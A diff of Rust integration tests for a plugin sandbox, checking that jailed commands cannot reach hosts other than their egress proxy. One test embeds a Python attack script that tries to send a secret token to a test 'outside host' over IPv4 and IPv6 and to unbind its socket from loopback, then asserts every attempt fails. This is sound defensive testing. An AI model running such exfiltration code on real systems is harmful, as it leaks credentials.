@@ -304,8 +304,8 @@ fn a_vault_style_plugin_gets_its_configuration_token_and_secrets() {
     );
 
     // The audit event names them too, and `policy suggest` (from the audit events alone, as
-    // `--audit-log FILE` writes them) proposes them as env.pass entries, keeping the input
-    // policy's quantities as written.
+    // `--audit-log FILE` writes them) proposes those the plugin's error named as env.pass
+    // entries, keeping the input policy's quantities as written.
     // (A failed request's event is written once its jail is reclaimed, just after the answer.)
     let deadline = Instant::now() + Duration::from_secs(10);
     let events: Vec<String> = loop {
@@ -346,11 +346,35 @@ fn a_vault_style_plugin_gets_its_configuration_token_and_secrets() {
         .lines()
         .find(|l| l.trim_start().starts_with("pass:"))
         .expect("env.pass");
-    for name in ["VAULT_ADDR", "AVP_TYPE", "AVP_AUTH_TYPE", "AVP_K8S_ROLE"] {
+    // The variables the plugin named (its error, its plugin.yaml argv), each marked for
+    // review; not one it did not name (every failure lists all the withheld ones: that list is
+    // no evidence).
+    let named = [
+        "VAULT_ADDR",
+        "AVP_TYPE",
+        "AVP_AUTH_TYPE",
+        "AVP_K8S_ROLE",
+        "AVP_K8S_TOKEN_PATH",
+    ];
+    for name in named {
         assert!(pass_line.contains(name), "{name}: {pass_line}");
     }
+    let unnamed: Vec<&str> = ev["withheldEnv"]
+        .as_array()
+        .expect("withheldEnv")
+        .iter()
+        .filter_map(|n| n.as_str())
+        .filter(|n| !named.contains(n) && !n.starts_with("VAULT_") && !n.starts_with("AVP_"))
+        .collect();
+    assert!(!unnamed.is_empty(), "{ev}");
+    for n in unnamed {
+        assert!(
+            !pass_line.contains(&format!("\"{n}\"")),
+            "{n} proposed: {pass_line}"
+        );
+    }
     assert!(
-        suggested.contains("REVIEW: each reaches every command"),
+        suggested.contains("which named it). REVIEW: it reaches every command"),
         "{suggested}"
     );
     for kept in [
@@ -818,22 +842,332 @@ fn allow_list_without_a_network_namespace_holds_on_landlock_tcp_seccomp_and_the_
     s.assert_work_dir_empties();
 }
 
-/// Ports of the TCP listeners on 127.0.0.1 (the kernel's table) whose socket a UID of `range`
-/// made.
+/// Ports of the TCP listeners of the server's network namespace (the kernel's tables, IPv4 and
+/// IPv6) whose socket a UID of `range` made: the egress proxies of jails without a network
+/// namespace of their own.
 fn leased_listeners(range: std::ops::Range<u32>) -> Vec<u16> {
-    let table = std::fs::read_to_string("/proc/net/tcp").expect("/proc/net/tcp");
-    table
-        .lines()
-        .skip(1)
-        .filter_map(|l| {
-            let f: Vec<&str> = l.split_whitespace().collect();
-            let (local, state, uid) = (f.get(1)?, f.get(3)?, f.get(7)?.parse::<u32>().ok()?);
-            let (addr, port) = local.split_once(':')?;
-            (*state == "0A" && addr == "0100007F" && range.contains(&uid))
-                .then(|| u16::from_str_radix(port, 16).ok())
-                .flatten()
+    let mut ports: Vec<u16> = ["/proc/net/tcp", "/proc/net/tcp6"]
+        .iter()
+        .filter_map(|f| std::fs::read_to_string(f).ok())
+        .flat_map(|table| {
+            table
+                .lines()
+                .skip(1)
+                .filter_map(|l| {
+                    let f: Vec<&str> = l.split_whitespace().collect();
+                    let (local, state, uid) =
+                        (f.get(1)?, f.get(3)?, f.get(7)?.parse::<u32>().ok()?);
+                    let (_, port) = local.split_once(':')?;
+                    (*state == "0A" && range.contains(&uid))
+                        .then(|| u16::from_str_radix(port, 16).ok())
+                        .flatten()
+                })
+                .collect::<Vec<_>>()
         })
-        .collect()
+        .collect();
+    ports.sort_unstable();
+    ports.dedup();
+    ports
+}
+
+/// Another host, reachable from the server's network namespace: a network namespace of its
+/// own behind a veth pair, with an IPv4 and an IPv6 address; removed when dropped.
+struct OutsideHost {
+    ns: String,
+    veth: String,
+    v4: String,
+    v6: String,
+}
+
+impl OutsideHost {
+    fn new() -> OutsideHost {
+        let id = std::process::id() % 200;
+        let ns = format!("cmpw-out-{}", std::process::id());
+        let (veth, peer) = (format!("cmpwo{id}"), format!("cmpwi{id}"));
+        let ip = |args: &[&str]| {
+            let out = Command::new("ip").args(args).output().expect("ip");
+            assert!(
+                out.status.success(),
+                "ip {args:?}: {}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+        };
+        let _ = Command::new("ip").args(["netns", "del", &ns]).output();
+        let _ = Command::new("ip").args(["link", "del", &veth]).output();
+        let (v4, v6) = (format!("10.253.{id}.2"), format!("fd53:{id:x}::2"));
+        ip(&["netns", "add", &ns]);
+        ip(&["link", "add", &veth, "type", "veth", "peer", "name", &peer]);
+        ip(&["link", "set", &peer, "netns", &ns]);
+        ip(&["addr", "add", &format!("10.253.{id}.1/30"), "dev", &veth]);
+        ip(&[
+            "-6",
+            "addr",
+            "add",
+            &format!("fd53:{id:x}::1/64"),
+            "dev",
+            &veth,
+            "nodad",
+        ]);
+        ip(&["link", "set", &veth, "up"]);
+        let inside = |args: &[&str]| {
+            let mut all = vec!["netns", "exec", &ns, "ip"];
+            all.extend_from_slice(args);
+            ip(&all);
+        };
+        inside(&["addr", "add", &format!("{v4}/30"), "dev", &peer]);
+        inside(&[
+            "-6",
+            "addr",
+            "add",
+            &format!("{v6}/64"),
+            "dev",
+            &peer,
+            "nodad",
+        ]);
+        inside(&["link", "set", &peer, "up"]);
+        inside(&["link", "set", "lo", "up"]);
+        OutsideHost { ns, veth, v4, v6 }
+    }
+
+    /// Listen on `ports` (every address, IPv4 and IPv6) and print, a line each, what any
+    /// connection sends.
+    fn listen(&self, ports: &[u16]) -> Fixture {
+        const LISTENER: &str = r#"
+import socket, sys, threading
+def serve(port):
+    l = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    l.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    l.bind(("::", port))
+    l.listen(16)
+    while True:
+        c, a = l.accept()
+        c.settimeout(3)
+        try:
+            data = c.recv(4096)
+        except OSError:
+            data = b""
+        print("%s %s %r" % (port, a[0], data), flush=True)
+        c.close()
+for p in sys.argv[1:]:
+    threading.Thread(target=serve, args=(int(p),), daemon=True).start()
+print("listening", flush=True)
+threading.Event().wait()
+"#;
+        let mut cmd = Command::new("ip");
+        cmd.args(["netns", "exec", &self.ns, "python3", "-c", LISTENER]);
+        cmd.args(ports.iter().map(u16::to_string));
+        let mut child = cmd
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("outside listener");
+        let mut line = String::new();
+        let mut out = std::io::BufReader::new(child.stdout.take().expect("stdout"));
+        std::io::BufRead::read_line(&mut out, &mut line).expect("listener");
+        assert_eq!(line.trim(), "listening");
+        // The rest is read by `received`.
+        child.stdout = Some(out.into_inner());
+        Fixture(child)
+    }
+}
+
+impl Drop for OutsideHost {
+    fn drop(&mut self) {
+        let _ = Command::new("ip")
+            .args(["link", "del", &self.veth])
+            .output();
+        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
+    }
+}
+
+/// What a command without a network namespace of its own tries at its proxy's port on other
+/// addresses (the finding: Landlock's TCP rule is a port, on any host): the outside host over
+/// IPv4, IPv6 and an IPv4-mapped IPv6 address, retrying while refused (the test starts the
+/// outside listener once it has seen the port), and what its socket says of itself; then the
+/// honest request through the proxy.
+const PROXY_PORT_ELSEWHERE: &str = r#"
+import errno, json, os, socket, time
+P = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
+OUT4, OUT6 = os.environ["ARGOCD_ENV_OUT4"], os.environ["ARGOCD_ENV_OUT6"]
+SECRET = os.environ["ARGOCD_ENV_SECRET"].encode()
+out = {"port": str(P)}
+def reach(family, addr):
+    end = time.time() + 15
+    while True:
+        s = socket.socket(family, socket.SOCK_STREAM)
+        s.settimeout(2)
+        try:
+            s.connect(addr)
+            s.sendall(b"token=" + SECRET)
+            return "CONNECTED"
+        except socket.timeout:
+            return "denied:timeout"
+        except OSError as e:
+            if e.errno == errno.ECONNREFUSED and time.time() < end:
+                time.sleep(0.2)
+                continue
+            return "denied:" + errno.errorcode.get(e.errno, str(e.errno))
+        finally:
+            s.close()
+s = socket.socket()
+out["device"] = s.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).split(b"\0")[0].decode()
+try:
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"")
+    out["unbind"] = "ALLOWED"
+except OSError as e:
+    out["unbind"] = "denied:" + errno.errorcode.get(e.errno, str(e.errno))
+s6 = socket.socket(socket.AF_INET6)
+out["device6"] = s6.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).split(b"\0")[0].decode()
+out["outside_v4"] = reach(socket.AF_INET, (OUT4, P))
+out["outside_v6"] = reach(socket.AF_INET6, (OUT6, P))
+out["outside_mapped"] = reach(socket.AF_INET6, ("::ffff:" + OUT4, P))
+s = socket.create_connection(("127.0.0.1", P), timeout=10)
+s.sendall(b"GET http://vault.example.test:18211/v1/sys/health HTTP/1.1\r\nHost: vault.example.test\r\n\r\n")
+out["honest"] = s.recv(4096).decode(errors="replace").split("\r\n", 1)[0]
+print(json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "egress"}, "data": out}))
+"#;
+
+/// The fourth attack round's high finding, attacked again: without a network namespace of the
+/// jail's own, Landlock's TCP rule names only the proxy's port, so a command connected to that
+/// port on another host and sent its token. Now every inet socket a command makes is the
+/// seccomp listener's, bound to the loopback device (which the command cannot undo), and the
+/// proxy's listener holds its port on every address of the pod: the outside host, listening
+/// on the proxy's port over IPv4 and IPv6, receives nothing (IPv4, IPv6 and IPv4-mapped), no
+/// other socket can listen on that port on any address, and the honest request through the
+/// proxy works in the same run.
+#[test]
+fn allow_list_without_a_network_namespace_reaches_the_proxys_port_on_no_other_host() {
+    needs_root!(NEEDS_ROOT);
+    let _vault = fixture("vault-style", "vault.py", 18211);
+    let outside = OutsideHost::new();
+    let pol = tempfile::tempdir().expect("tmp");
+    let pol_file = pol.path().join("policy.yaml");
+    let (first, count) = write_policy(
+        &pol_file,
+        &[
+            (
+                "network: {mode: none}",
+                "network: {mode: allowList, allow: [{host: vault.example.test, ports: [18211], internal: true}], hosts: {vault.example.test: [127.0.0.1]}}",
+            ),
+            (
+                "namespaces: [mount, pid, net, ipc, uts, cgroup]",
+                "namespaces: [mount, pid, ipc, uts, cgroup]",
+            ),
+        ],
+    );
+    let s = Server::start(
+        &plugin("  generate: {command: [python3, attack.py]}\n"),
+        &["--policy", pol_file.to_str().expect("utf8")],
+    );
+    let r = repo(&[("attack.py", PROXY_PORT_ELSEWHERE)]);
+    let dir = r.path().to_str().expect("utf8").to_owned();
+    let env = [
+        format!("ARGOCD_ENV_OUT4={}", outside.v4),
+        format!("ARGOCD_ENV_OUT6={}", outside.v6),
+        "ARGOCD_ENV_SECRET=team-a-token".to_owned(),
+    ];
+    let sock = s.sock.clone();
+    let request = std::thread::spawn(move || {
+        let mut cmd = Command::new(go_client());
+        cmd.arg("-socket")
+            .arg(&sock)
+            .args(["-rpc", "generate", "-dir", &dir]);
+        for e in &env {
+            cmd.args(["-env", e]);
+        }
+        cmd.output().expect("grpc client")
+    });
+    // The proxies' ports (the request's and the spare jail's), as the kernel lists them; the
+    // outside host listens on each, and no one else in the pod can.
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let mut ports = Vec::new();
+    while ports.len() < 2 && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+        ports = leased_listeners(first..first + count);
+    }
+    assert!(!ports.is_empty(), "no proxy listener seen\n{}", s.logs());
+    let mut listener = outside.listen(&ports);
+    for p in &ports {
+        for addr in ["127.0.0.2", "127.0.0.1", "0.0.0.0"] {
+            let taken = std::net::TcpListener::bind((addr, *p));
+            assert!(
+                taken
+                    .as_ref()
+                    .is_err_and(|e| e.kind() == std::io::ErrorKind::AddrInUse),
+                "another socket could listen on {addr}:{p}: {taken:?}"
+            );
+        }
+        let taken6 = std::net::TcpListener::bind(("::1", *p));
+        assert!(
+            taken6
+                .as_ref()
+                .is_err_and(|e| e.kind() == std::io::ErrorKind::AddrInUse),
+            "another socket could listen on [::1]:{p}: {taken6:?}"
+        );
+    }
+
+    let out = request.join().expect("request");
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "{e}: {}\n{}",
+            String::from_utf8_lossy(&out.stderr),
+            s.logs()
+        )
+    });
+    let doc: serde_json::Value = serde_json::from_str(
+        v["manifests"][0]
+            .as_str()
+            .unwrap_or_else(|| panic!("{v}\n{}", s.logs())),
+    )
+    .expect("json");
+    let d = &doc["data"];
+    assert!(
+        ports
+            .iter()
+            .any(|p| d["port"].as_str() == Some(p.to_string().as_str())),
+        "the command's proxy port is among those listened on: {d} {ports:?}"
+    );
+    // The reason claimed: its sockets are bound to the loopback, and stay so.
+    assert_eq!(d["device"], "lo", "{d}");
+    assert_eq!(d["device6"], "lo", "{d}");
+    assert_eq!(d["unbind"], "denied:EPERM", "{d}");
+    for k in ["outside_v4", "outside_v6", "outside_mapped"] {
+        let r = d[k].as_str().unwrap_or_default();
+        assert!(
+            [
+                "denied:ENETUNREACH",
+                "denied:EHOSTUNREACH",
+                "denied:timeout"
+            ]
+            .contains(&r),
+            "{k}: {d}"
+        );
+    }
+    assert_eq!(
+        d["honest"], "HTTP/1.0 403 Forbidden",
+        "Vault through the proxy: {d}"
+    );
+    // The outside host heard nothing.
+    let _ = listener.0.kill();
+    let mut heard = String::new();
+    if let Some(mut o) = listener.0.stdout.take() {
+        let _ = o.read_to_string(&mut heard);
+    }
+    assert!(
+        heard.trim().is_empty(),
+        "the outside host received: {heard}"
+    );
+    let event = s.audit_events().pop().expect("event");
+    assert!(
+        event["egress"]
+            .as_array()
+            .expect("egress")
+            .iter()
+            .any(|c| c["decision"] == "allowed" && c["destination"] == "vault.example.test:18211"),
+        "{event}"
+    );
+    s.assert_work_dir_empties();
 }
 
 /// Writing a network policy from what a plugin does: seccomp audit mode shows inet sockets
